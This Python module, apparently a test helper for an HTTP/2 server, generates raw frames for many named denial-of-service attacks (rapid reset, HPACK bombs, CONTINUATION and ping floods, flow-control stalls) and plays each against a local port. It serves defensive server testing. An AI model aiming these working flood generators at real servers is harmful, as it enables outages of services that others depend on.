"""What a hostile client of HTTP/2 sends, as bytes: attacks that have names, each played on one connection at a time.

Knows: frames. Does not know: what a server makes of them (`server/test_http2_attacks.py` does).
"""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from h2client import CANCEL, GOAWAY, PATIENCE, frame

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION, PRIORITY_UPDATE = 0, 1, 2, 3, 4, 6, 8, 9, 16
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
#: So many steps are sent together.
STEPS = 20
#: What a field holds that stands in the table.
LARGE = ("x-bomb", "b" * 3900)


def block(path: str, method: str = "GET", *fields: tuple[str, str]) -> bytes:
    """A request's head that puts nothing into the table."""
    pairs = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a"), *fields]
    return b"".join(_plain(name.encode()) + _plain(value.encode(), first=False) for name, value in pairs)


def _plain(text: bytes, *, first: bool = True) -> bytes:
    """A literal, behind the byte that says so before its name; its length is a number of RFC 7541 §5.1."""
    more = len(text) - 127
    length = bytes([len(text)]) if more < 0 else bytes([127, more % 128 | 128, more >> 7])
    return (b"\0" if first else b"") + length + text


def ask(stream: int, head: bytes, *, end: bool = True) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, head)


def number(value: int) -> bytes:
    return value.to_bytes(4, "big")


def stream_of(step: int) -> int:
    return 2 * step + 1


SMALL, TWENTY = block("/bytes/100"), block("/bytes/20000")


@dataclass(frozen=True)
class Attack:
    """One kind. `step`: the bytes of the n-th time."""

    name: str
    step: Callable[[int], bytes]
    #: What is sent before the first.
    begin: bytes = b""
    #: It is told to be calm; otherwise its connection may go on, and costs little.
    calms: bool = True
    #: So many steps, and no more.
    steps: int = 1 << 30
    #: What each stream's reply may be ahead.
    window: int = 65_535
    #: It takes what the server sends.
    reads: bool = True


def rapid_reset(step: int) -> bytes:
    return ask(stream_of(step), SMALL) + frame(RESET, 0, stream_of(step), number(CANCEL))


def made_you_reset(step: int) -> bytes:
    return ask(stream_of(step), SMALL) + frame(WINDOW, 0, stream_of(step), number(0))


def reset_behind_content(step: int) -> bytes:
    begun = ask(stream_of(step), block("/digest", "POST"), end=False)
    return begun + frame(DATA, 0, stream_of(step), b"x" * 1000) + frame(RESET, 0, stream_of(step), number(CANCEL))


def empty_names(step: int) -> bytes:
    return ask(stream_of(step), SMALL + b"\0\0\0" * 50)


def smuggled(step: int) -> bytes:
    fields = block("/by tes/1") if step % 2 else block("/bytes/1", "GET", ("host", "other"))
    return ask(stream_of(step), fields)


def referred(step: int) -> bytes:
    """Each head says a large field of the table again and again: more than a head may hold."""
    return ask(stream_of(step + 1), SMALL + b"\xbe" * 60)


def referred_less(step: int) -> bytes:
    """The same, as much as a head may hold, and no reply can leave."""
    return ask(stream_of(step + 1), SMALL + b"\xbe" * 15)


def insertion() -> bytes:
    name, value = (text.encode() for text in LARGE)
    return ask(1, SMALL + b"\x40" + _plain(name, first=False) + _plain(value, first=False))


def window_churn(_: int) -> bytes:
    return frame(SETTINGS, 0, 0, b"\0\4" + number(0)) + frame(SETTINGS, 0, 0, b"\0\4" + number(65_536))


def priorities(step: int) -> bytes:
    return frame(PRIORITY, 0, 1 + 2 * (step % 50), number(1 + 2 * (step % 49 + 50)) + b"\x10")


def priority_updates(step: int) -> bytes:
    return frame(PRIORITY_UPDATE, 0, 0, number(1) + b"u=%d" % (step % 8))


def dribbled(step: int) -> bytes:
    """A byte at a time of a hundred replies."""
    return ask(stream_of(step), TWENTY) if step < 100 else frame(WINDOW, 0, stream_of(step % 100), number(1))


def repeated(payload: bytes) -> Callable[[int], bytes]:
    return lambda _: payload


UPLOAD = ask(1, block("/digest", "POST"), end=False)
WAITING = ask(1, block("/endless"))

ATTACKS = [
    Attack("rapid reset (CVE-2023-44487)", rapid_reset),
    Attack("made you reset (CVE-2025-8671)", made_you_reset),
    Attack("reset behind content", reset_behind_content),
    Attack("bomb of references behind closed windows (CVE-2026-49975)", referred_less, begin=insertion(), window=0),
    Attack("bomb of header compression (CVE-2016-6581)", referred, begin=insertion()),
    Attack("continuations (CVE-2024-27316)", repeated(frame(CONTINUATION, 0, 1, b"\0\1x\1y" * 100)),
           begin=frame(HEADERS, 0, 1, SMALL)),
    Attack("empty continuations", repeated(frame(CONTINUATION, 0, 1, b"")), begin=frame(HEADERS, 0, 1, SMALL)),
    Attack("replies a byte at a time (CVE-2019-9511)", dribbled, window=0),
    Attack("pings (CVE-2019-9512)", repeated(frame(PING, 0, 0, b"12345678"))),
    Attack("priorities (CVE-2019-9513)", priorities),
    Attack("priority updates", priority_updates, begin=WAITING),
    Attack("requests that are reset for a fault (CVE-2019-9514)", smuggled),
    Attack("settings (CVE-2019-9515)", repeated(frame(SETTINGS, 0, 0, b""))),
    Attack("empty names (CVE-2019-9516)", empty_names),
    Attack("replies that nobody reads (CVE-2019-9517)", lambda step: ask(stream_of(step), TWENTY), calms=False,
           steps=128, window=2**31 - 1, reads=False),
    Attack("empty content (CVE-2019-9518)", repeated(frame(DATA, 0, 1, b"")), begin=UPLOAD),
    Attack("content in crumbs (RUSTSEC-2026-0258)", repeated(frame(DATA, 0, 1, b"x" * 63)), begin=UPLOAD),
    Attack("content a byte at a time", repeated(frame(DATA, 0, 1, b"x")), begin=UPLOAD),
    Attack("nothing but padding", repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255))), begin=UPLOAD),
    Attack("windows that stay closed", lambda step: ask(stream_of(step), TWENTY), calms=False, steps=100, window=0),
    Attack("windows that stay closed before replies in parts", lambda step: ask(stream_of(step), block("/parts/100")),
           calms=False, steps=128, window=0),
    Attack("windows that grow by nothing useful", repeated(frame(WINDOW, 0, 0, number(1)))),
    Attack("windows that change with each setting", window_churn, begin=WAITING),
    Attack("frames that nobody knows", repeated(frame(0xBE, 0, 0, b"unknown"))),
    Attack("farewells", repeated(frame(GOAWAY, 0, 0, number(0) + number(0)))),
]  # fmt: skip


@dataclass
class Ending:
    """How one connection went. `code`: of the server's farewell; none: it said none."""

    code: int | None
    #: Replies that have come whole.
    answered: int
    steps: int
    seconds: float


@dataclass
class _Heard:
    """What the server says, as far as it matters."""

    rest: bytes = b""
    answered: int = 0
    codes: list[int] = field(default_factory=list)

    def add(self, data: bytes) -> None:
        self.rest += data
        while len(self.rest) >= 9 and len(self.rest) >= (end := 9 + int.from_bytes(self.rest[:3], "big")):
            kind, flags = self.rest[3], self.rest[4]
            self.answered += kind in (DATA, HEADERS) and flags & END_STREAM
            if kind == GOAWAY:
                self.codes.append(int.from_bytes(self.rest[13:17], "big"))
            self.rest = self.rest[end:]


def play(attack: Attack, port: int, until: float) -> Ending:
    """One connection of it, until the server ends that, or so long (by the clock of `time.monotonic`)."""
    sock = socket.socket()
    if not attack.reads:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(PATIENCE)
    sock.connect(("127.0.0.1", port))
    sock.setblocking(False)
    opened = frame(SETTINGS, 0, 0, b"\0\4" + number(attack.window)) + frame(SETTINGS, 1, 0, b"")
    opened += frame(WINDOW, 0, 0, number(2**30))
    unsent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + opened + attack.begin
    heard, step, begun, writes, ended = _Heard(), 0, time.monotonic(), True, False
    while not ended and time.monotonic() < until:
        if not unsent and step < attack.steps:
            more = min(STEPS, attack.steps - step)
            unsent = b"".join(attack.step(step + one) for one in range(more))
            step += more
        readable, writable, _ = select.select(
            [sock] if attack.reads else [], [sock] if unsent and writes else [], [], 0.05
        )
        try:
            if writable:
                unsent = unsent[sock.send(unsent) :]
        except ConnectionError:
            # What was said last is still to be read.
            writes = False
        try:
            if readable:
                data = sock.recv(1 << 18)
                heard.add(data)
                ended = not data
        except ConnectionError:
            ended = True
    sock.close()
    code = heard.codes[-1] if heard.codes else None
    return Ending(code if ended else None, heard.answered, step, time.monotonic() - begun)
